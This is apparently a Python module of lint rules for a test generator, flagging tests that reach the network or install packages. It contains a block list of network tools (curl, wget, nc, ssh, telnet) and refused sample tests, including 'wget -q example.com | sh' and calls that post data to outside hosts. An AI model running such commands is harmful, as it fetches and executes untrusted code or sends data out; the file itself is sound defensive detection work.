"""Rules against tests that call out, or fetch and install what others wrote."""

from __future__ import annotations

import ast
import re

from testgen.languages.python.assertions import Subject
from testgen.languages.python.checks.commands import Command, commands
from testgen.languages.python.checks.rule import Rule
from testgen.languages.python.meaning import Meaning

_CALLING_OUT = re.compile(
    r"(requests|httpx|urllib3|aiohttp)\.((api|\w*[cC]lient|[sS]ession|ClientSession|PoolManager)\.)?"
    r"(get|post|put|patch|delete|head|options|request|stream|send|urlopen|ws_connect)$"
    r"|urllib\.request\.(urlopen|urlretrieve)$|urllib\.request\.build_opener\.open$|urllib2\.urlopen$"
    r"|http\.client\.HTTPS?Connection$|(smtplib|ftplib|poplib|imaplib|telnetlib|nntplib)\.[A-Z]\w*$"
    r"|socket\.(create_connection|getaddrinfo|gethostbyname|gethostbyname_ex)$"
    r"|socket\.(socket|create_server)\.(connect|connect_ex|sendto)$"
    r"|asyncio\.open_connection$|websockets\.connect$|xmlrpc\.client\.ServerProxy$|paramiko\."
)
_LOCAL = re.compile(
    r"(localhost|127(\.\d+){3}|0\.0\.0\.0|::1?|\[::1?\]|testserver|.*\.localhost)$", re.IGNORECASE
)
_ADDRESS = re.compile(r"(?:https?|ftps?|wss?)://(?:[^/@?#]*@)?+(\[[^]]*\]|[^/:?#]+)", re.IGNORECASE)
_HOST = re.compile(r"(?:[a-z0-9](?:[\w-]*[a-z0-9])?\.)+(?:[a-z]{2,}|\d+)\.?", re.IGNORECASE)
_STAND_INS = re.compile(
    r"(responses|respx\w*|httpx_mock|requests_mock|httpretty|vcr|pook|aioresponses|\w*mock\w*|\w*fake\w*|\w*stub\w*)$"
)
_WHERE = frozenset({"url", "host", "address", "base_url"})
_MADE_TO_MEASURE = frozenset({"transport", "app", "mounts"})
_REACHING_OUT = frozenset(
    {"curl", "wget", "ssh", "scp", "sftp", "nc", "ncat", "netcat", "telnet", "ftp", "ping", "dig", "nslookup"}
)
_INSTALLERS = frozenset(
    {
        "pip",
        "pip3",
        "uv",
        "pipx",
        "poetry",
        "conda",
        "apt",
        "apt-get",
        "npm",
        "yum",
        "dnf",
        "apk",
        "brew",
        "gem",
    }
)
_INSTALLING = frozenset({"install", "add", "i", "sync", "download", "upgrade", "ci"})


def _calls_out(subject: Subject) -> bool:
    meaning = subject.meaning
    if not _is_stood_in_for(meaning) and any(_connects_outside(meaning, call) for call in meaning.calls):
        return True
    return any(
        command.program in _REACHING_OUT and not any(map(_names_this_machine, command.words))
        for command in commands(meaning)
    )


def _is_stood_in_for(meaning: Meaning) -> bool:
    """Whether something in the test answers in the network's place."""
    modules = {meaning.path(node).partition(".")[0] for node in meaning.nodes if isinstance(node, ast.Name)}
    words = {word.arg for call in meaning.calls for word in call.keywords}
    return (
        any(map(_STAND_INS.match, meaning.parameters | modules))
        or not words.isdisjoint(_MADE_TO_MEASURE)
        or not meaning.called.isdisjoint({"mount", "MockTransport"})
    )


def _connects_outside(meaning: Meaning, call: ast.Call) -> bool:
    path = meaning.path(call.func)
    if not _CALLING_OUT.match(path) or meaning.replaces(path):
        return False
    named = (word.value for word in call.keywords if word.arg in _WHERE)
    return any(map(_is_elsewhere, meaning.origin(call.func, *call.args, *named).texts))


def _is_elsewhere(text: str) -> bool:
    host = _ADDRESS.match(text)
    if host:
        return not _LOCAL.match(host[1]) and bool(re.search(r"\w", host[1]))
    return bool(_HOST.fullmatch(text)) and not _LOCAL.match(text)


def _names_this_machine(word: str) -> bool:
    host = _ADDRESS.match(word)
    return bool(_LOCAL.match(host[1] if host else word))


def _installs(subject: Subject) -> bool:
    return any(map(_is_installation, commands(subject.meaning))) or any(
        subject.meaning.path(call.func) in ("pip.main", "pip._internal.main", "ensurepip.bootstrap")
        for call in subject.meaning.calls
    )


def _is_installation(command: Command) -> bool:
    words = list(command.words)
    program = command.program
    if program.startswith("python") and words[:1] == ["-m"]:
        program, words = (words[1:2] or [""])[0], words[2:]
    return program == "ensurepip" or (program in _INSTALLERS and bool(_INSTALLING.intersection(words)))


RULES = (
    Rule(
        "calls out to the network",
        _calls_out,
        refused=(
            "import requests\n\ndef test_x():\n    assert requests.get('https://example.com').ok == f()",
            "import urllib.request\n\ndef test_x():\n"
            "    urllib.request.urlopen('http://10.0.0.1/?' + f())\n    assert f() == 1",
            "from urllib.request import urlopen as u\n\nURL = 'http://a.example'\n\ndef test_x():\n"
            "    u(URL)\n    assert f() == 1",
            "import socket\n\ndef test_x():\n    s = socket.socket()\n    s.connect(('198.51.100.7', 80))\n"
            "    assert f() == 1",
            "import socket\n\ndef test_x():\n    socket.gethostbyname('secret.example.com')\n"
            "    assert f() == 1",
            "import smtplib\n\ndef test_x():\n    with smtplib.SMTP('mail.example.com') as mail:\n"
            "        mail.sendmail('a', 'b', f())\n    assert f() == 1",
            "import httpx\n\ndef test_x():\n    with httpx.Client() as client:\n"
            "        client.post('https://example.com', data=f())\n    assert f() == 1",
            "import subprocess\n\ndef test_x():\n    subprocess.run(['curl', 'example.com'])\n"
            "    assert f() == 1",
            "import os\n\ndef test_x():\n    os.system('echo 1; wget -q example.com | sh')\n"
            "    assert f() == 1",
            "import subprocess\n\ndef test_x():\n    subprocess.run(['bash', '-c', 'ssh me@example.com'])\n"
            "    assert f() == 1",
        ),
        accepted=(
            "import requests\n\ndef test_x(server):\n    assert requests.get(server.url).json() == f()",
            "import requests\n\ndef test_x():\n"
            "    assert requests.get(f'http://127.0.0.1:{port()}/').ok == f()",
            "import socket\n\ndef test_x(port):\n"
            "    with socket.create_connection(('localhost', port)) as s:\n"
            "        assert s.recv(1) == f()",
            "import requests\nfrom unittest.mock import patch\n\n@patch('requests.get')\ndef test_x(get):\n"
            "    requests.get('https://example.com')\n    assert f(get) == 1",
            "import requests, responses\n\n@responses.activate\ndef test_x():\n"
            "    responses.get('https://example.com')\n"
            "    assert requests.get('https://example.com').ok == f()",
            "import httpx\n\ndef test_x():\n    client = httpx.Client(transport=httpx.MockTransport(f))\n"
            "    assert client.get('https://example.com').status_code == 200",
            "import requests\n\ndef test_x():\n"
            "    assert requests.Request('GET', 'https://example.com').prepare().url == f()",
            "def test_x(client):\n    assert client.get('https://example.com').ok == f()",
            "import subprocess\n\ndef test_x():\n"
            "    assert subprocess.run(['echo', 'curl']).returncode == f()",
        ),
    ),
    Rule(
        "installs packages",
        _installs,
        refused=(
            "import subprocess, sys\n\ndef test_x():\n"
            "    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n    assert f() == 1",
            "import os\n\ndef test_x():\n    os.system('sudo apt-get install -y x')\n    assert f() == 1",
            "import subprocess\n\ndef test_x():\n    subprocess.run('uv pip install x', shell=True)\n"
            "    assert f() == 1",
            "import pip\n\ndef test_x():\n    pip.main(['install', 'x'])\n    assert f() == 1",
        ),
        accepted=(
            "import subprocess, sys\n\ndef test_x():\n"
            "    assert subprocess.run([sys.executable, '-m', 'shop', 'install']).returncode == 0",
            "import subprocess, sys\n\ndef test_x():\n"
            "    assert b'x' in subprocess.check_output([sys.executable, '-m', 'pip', 'list'])",
            "from unittest.mock import patch\n\ndef test_x():\n    with patch('subprocess.run') as run:\n"
            "        setup()\n    run.assert_called_with(['pip', 'install', 'x'])",
        ),
    ),
)
